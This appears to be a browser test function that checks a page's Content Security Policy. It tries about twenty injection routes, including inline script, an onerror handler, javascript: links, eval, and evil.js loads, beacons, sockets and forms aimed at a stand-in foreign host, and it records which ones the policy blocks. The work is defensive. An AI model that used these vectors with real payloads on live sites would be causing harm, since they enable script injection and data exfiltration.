// What a text might try if a page took it for more than text: each is tried in turn, and the answer tells which of them
// ran, and which the page's policy has refused under which directive.
async ({ foreign, socket }) => {
  const ran = [];
  const refused = {};
  let tried = "";
  let heard = () => {};
  // The policy of a page without one refuses nothing; then there is nothing to wait for but the attempt itself.
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    (refused[tried] ??= []).push(effectiveDirective.replace(/-(?:elem|attr)$/, ""));
    heard();
  });
  self.trespass = () => ran.push(tried);
  const run = "trespass()";

  const place = document.body.appendChild(document.createElement("div"));
  const element = (tag, values) => place.appendChild(Object.assign(document.createElement(tag), values));
  const markup = (html) => place.insertAdjacentHTML("beforeend", html);
  const look = (selector) => getComputedStyle(place.querySelector(selector)).visibility === "hidden" && self.trespass();

  const attempts = {
    "inline script": () => element("script", { textContent: run }),
    "event handler": () => markup(`<img src="data:," onerror="${run}">`),
    "script address": () => element("a", { href: `javascript:${run}` }).click(),
    eval: () => (0, eval)(run),
    Function: () => new Function(run)(),
    "timer with text": () => void setTimeout(run),
    "imported text": () => import(`data:text/javascript,${run}`),
    "foreign script": () => element("script", { src: `${foreign}evil.js` }),
    "foreign module": () => import(`${foreign}evil.js`).then(() => self.trespass()),
    "blob worker": () => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      worker.onmessage = self.trespass;
    },
    "foreign request": () => fetch(`${foreign}asked`).then(() => self.trespass()),
    "foreign beacon": () => navigator.sendBeacon(`${foreign}asked`, "text"),
    "foreign socket": () => void new WebSocket(socket),
    "foreign picture": () => element("img", { src: `${foreign}asked`, onload: self.trespass }),
    "foreign style": () => element("link", { rel: "stylesheet", href: `${foreign}evil.css`, onload: self.trespass }),
    "foreign letters": () => new FontFace("evil", `url(${foreign}evil.woff2)`).load(),
    "foreign frame": () => element("iframe", { src: `${foreign}asked`, onload: () => refused["foreign frame"] || self.trespass() }),
    "foreign object": () => element("object", { data: `${foreign}asked` }),
    "style element": () => {
      markup("<style>#styled { visibility: hidden }</style><i id=styled>styled</i>");
      look("#styled");
    },
    "style attribute": () => {
      markup('<b style="visibility: hidden">styled</b>');
      look("b");
    },
    "foreign form": () => {
      element("iframe", { name: "sent" });
      element("form", { action: `${foreign}asked`, target: "sent" }).submit();
    },
    "another base": () => {
      const base = document.head.appendChild(Object.assign(document.createElement("base"), { href: foreign }));
      if (document.baseURI === foreign) self.trespass();
      base.remove();
    },
  };

  // A debugger may evaluate more than the page: what comes later is the page's own.
  await new Promise((resolve) => setTimeout(resolve));
  for (const [name, attempt] of Object.entries(attempts)) {
    tried = name;
    const done = new Promise((resolve) => {
      heard = resolve;
      setTimeout(resolve, 250);
    });
    try {
      await attempt();
    } catch {
      // Refused; the event tells by what.
    }
    await done;
  }
  // A frame is refused a moment later than the form that was to be sent into it.
  await new Promise((resolve) => setTimeout(resolve, 250));
  return { tried: Object.keys(attempts), ran, refused };
}
